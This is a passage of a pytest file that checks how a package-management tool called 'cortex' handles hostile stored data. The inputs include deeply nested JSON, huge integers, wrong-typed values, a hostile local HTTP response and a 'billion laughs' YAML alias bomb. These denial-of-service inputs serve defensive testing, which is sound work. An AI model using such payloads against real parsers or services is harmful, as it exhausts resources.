        manager.set_preference("theme", "light")  # must not overwrite what it cannot read
    before = _sha(path)
    with caplog.at_level(logging.WARNING, logger="cortex.config_manager"):
        theme = manager.get_preference("theme", "default")  # a reader falls back, and says so
    assert theme == "default"
    assert str(path) in caplog.text
    assert _sha(path) == before


def _poison(path: Path, table: str, column: str, row_id: str, value: bytes) -> None:
    """Replace one stored JSON value behind the store's back, as another program could."""
    get_connection_pool(path).close()
    conn = sqlite3.connect(path)
    try:
        with conn:
            conn.execute(
                f"UPDATE {table} SET {column} = ? WHERE id = ?",
                (value.decode(), row_id),
            )
    finally:
        conn.close()


def _stored(path: Path, table: str, column: str, row_id: str) -> str:
    conn = sqlite3.connect(path)
    try:
        row = conn.execute(
            f"SELECT {column} FROM {table} WHERE id = ?",
            (row_id,),
        ).fetchone()
    finally:
        conn.close()
    return str(row[0])


HOSTILE_COLUMNS = {
    "deep": DEEP,
    "huge-int": b"[" + HUGE_INT + b"]",
    "wrong-type": b'"a string"',
    "wrong-item": b'{"nginx": [1, 2]}',
}


@pytest.mark.parametrize("kind", sorted(HOSTILE_COLUMNS))
@pytest.mark.parametrize("column", ["packages", "before_state", "rollback_commands"])
def test_one_hostile_transaction_row_is_skipped_by_name(
    tmp_path: Path, kind: str, column: str, caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / "transactions.db"
    history = TransactionHistory(path, probe=StaticProbe())
    good = history.begin_transaction(TransactionType.INSTALL, ["nginx"], command="good").id
    bad = history.begin_transaction(TransactionType.INSTALL, ["curl"], command="bad").id
    _poison(path, "transactions", column, bad, HOSTILE_COLUMNS[kind])
    with caplog.at_level(logging.WARNING, logger="cortex.transaction_history"):
        recent = TransactionHistory(path, probe=StaticProbe()).get_recent(limit=10)
    kept = _stored(path, "transactions", column, bad) == HOSTILE_COLUMNS[kind].decode()
    LEDGER.add(AREA, bad_inputs=1, data_lost=int(not kept))
    assert [tx.id for tx in recent if tx.id == good] == [good]  # the good row is served
    assert bad not in [tx.id for tx in recent]  # the bad one is skipped...
    assert str(path) in caplog.text  # ...by name
    assert bad in caplog.text
    assert kept  # and left as it was


@pytest.mark.parametrize("kind", sorted(HOSTILE_COLUMNS))
def test_one_hostile_installation_row_is_skipped_by_name(
    tmp_path: Path, kind: str, caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / "history.db"
    history = InstallationHistory(path, probe=StaticProbe())
    when = datetime(2026, 1, 5, 12, 0)
    good = history.record_installation(InstallationType.INSTALL, ["nginx"], ["x"], when)
    bad = history.record_installation(InstallationType.INSTALL, ["curl"], ["y"], when)
    _poison(path, "installations", "packages", bad, HOSTILE_COLUMNS[kind])
    with caplog.at_level(logging.WARNING, logger="cortex.installation_history"):
        found = [r.id for r in InstallationHistory(path, probe=StaticProbe()).get_history(10)]
    kept = _stored(path, "installations", "packages", bad) == HOSTILE_COLUMNS[kind].decode()
    LEDGER.add(AREA, bad_inputs=1, data_lost=int(not kept))
    assert good in found
    assert bad not in found
    assert str(path) in caplog.text
    assert kept


@pytest.mark.parametrize("kind", ["deep", "huge-int", "wrong-type"])
def test_a_hostile_kv_pool_record_is_an_error_naming_the_file(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "kv.db"
    database = CacheDatabase(db_path=path)
    database.save_pool(CacheConfig(name="pool", size_bytes=4096), "segment")
    value = {"deep": DEEP, "huge-int": b'{"size_bytes": ' + HUGE_INT + b"}"}.get(kind, b"[1]")
    get_connection_pool(path).close()
    conn = sqlite3.connect(path)
    with conn:
        conn.execute("UPDATE pools SET config = ? WHERE name = 'pool'", (value.decode(),))
    conn.close()
    LEDGER.add(AREA, bad_inputs=1)
    with pytest.raises(ValueError, match=re.escape(str(path))) as caught:
        CacheDatabase(db_path=path).list_pools()
    assert "pools" in str(caught.value)
    with pytest.raises(ValueError, match=re.escape(str(path))):
        CacheDatabase(db_path=path).get_pool("pool")


@pytest.mark.parametrize("kind", ["deep", "huge-int", "wrong-type"])
def test_a_hostile_limits_profile_is_an_error_naming_the_file(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "limits.db"
    database = LimitsDatabase(db_path=path)
    database.save(ResourceLimits.from_preset("job", "inference"))
    value = {"deep": DEEP, "huge-int": b'{"cpu_quota": ' + HUGE_INT + b"}"}.get(kind, b"[1]")
    get_connection_pool(path).close()
    conn = sqlite3.connect(path)
    with conn:
        conn.execute("UPDATE profiles SET config = ? WHERE name = 'job'", (value.decode(),))
    conn.close()
    LEDGER.add(AREA, bad_inputs=1)
    with pytest.raises(ValueError, match=re.escape(str(path))):
        LimitsDatabase(db_path=path).list_all()
    with pytest.raises(ValueError, match=re.escape(str(path))):
        LimitsDatabase(db_path=path).get("job")


@pytest.mark.parametrize("kind", ["deep", "huge-int", "wrong-type"])
def test_a_hostile_context_memory_value_falls_back_to_the_default(
    tmp_path: Path, kind: str
) -> None:
    path = tmp_path / "memory.db"
    memory = ContextMemory(str(path))
    memory.set_preference("editor", {"name": "vim"}, category="tools")
    value = {"deep": DEEP, "huge-int": b"[" + HUGE_INT + b"]"}.get(kind, b"[1]")
    get_connection_pool(path).close()
    conn = sqlite3.connect(path)
    tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")]
    table = next(t for t in tables if "preference" in t)
    with conn:
        conn.execute(f"UPDATE {table} SET value = ?", (value.decode(),))
    conn.close()
    LEDGER.add(AREA, bad_inputs=1)
    fallback = ContextMemory(str(path)).get_preference("editor", default="none")
    assert fallback == ([1] if kind == "wrong-type" else "none")  # a preference has any type


@pytest.mark.parametrize("kind", ["deep", "huge-int", "a-list"])
def test_search_logs_skips_a_hostile_line(tmp_path: Path, kind: str) -> None:
    name = _logger_name()
    logger = CortexLogger(name=name, log_dir=tmp_path, console_level="CRITICAL")
    try:
        logger.info("needle 0")
    finally:
        logger.close()
    path = tmp_path / f"{name}.json.log"
    line = {"deep": DEEP, "huge-int": b'{"message": "needle", "n": ' + HUGE_INT + b"}"}.get(
        kind, b'["needle"]'
    )
    path.write_bytes(line + b"\n" + path.read_bytes())
    before = _sha(path)
    logger = CortexLogger(name=name, log_dir=tmp_path, console_level="CRITICAL")
    try:
        found = [entry["message"] for entry in logger.search_logs("needle")]
        since = [entry["message"] for entry in logger.search_logs("needle", since=NOON)]
    finally:
        logger.close()
    LEDGER.add(AREA, bad_inputs=1, data_lost=int(_sha(path) != before))
    assert found == ["needle 0"]
    assert isinstance(since, list)
    assert _sha(path) == before


@pytest.mark.parametrize("kind", ["deep", "huge-int"])
def test_a_hostile_provider_answer_is_a_provider_error_and_falls_back(kind: str) -> None:
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from cortex.llm_router import LLMProvider, OfflineProvider, OpenAICompatibleProvider

    body = DEEP if kind == "deep" else b'{"choices": ' + HUGE_INT + b"}"

    class Hostile(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers["Content-Length"]))
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        http = OpenAICompatibleProvider(f"http://127.0.0.1:{server.server_address[1]}/v1", "m")
        index = parse_packages(generate_index_text(300))
        router = LLMRouter(
            providers={LLMProvider.OPENAI: http, LLMProvider.OFFLINE: OfflineProvider(index, 0.0)},
            default_provider=LLMProvider.OPENAI,
        )
        response = router.complete([{"role": "user", "content": "install nginx"}])
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)
    LEDGER.add(AREA, bad_inputs=1)
    assert response.provider is LLMProvider.OFFLINE  # the fallback was tried
    assert router.get_stats()["providers"]["openai"]["failures"] == 1


def test_preferences_made_of_aliases_of_aliases_load_without_expanding(tmp_path: Path) -> None:
    # "Billion laughs": 10 aliases of 10 aliases ... 9 levels deep is 10**10 leaves when
    # expanded. PyYAML shares the nodes; the decoder's checks must not expand them either.
    lines, previous = ["a: &a [x, x, x, x, x, x, x, x, x, x]"], "a"
    for name in "bcdefghij":
        lines.append(f"{name}: &{name} [{', '.join(['*' + previous] * 10)}]")
        previous = name
    manager = ConfigManager(config_dir=tmp_path)
    manager.preferences_file.write_text("\n".join(lines) + "\n", encoding="utf-8")
    LEDGER.add(AREA, bad_inputs=1)
    prefs = manager.load_preferences()  # finishes: the checks walk each shared node once
    assert prefs["j"][0] is prefs["j"][9]  # shared, not copied
    assert prefs["a"] == ["x"] * 10
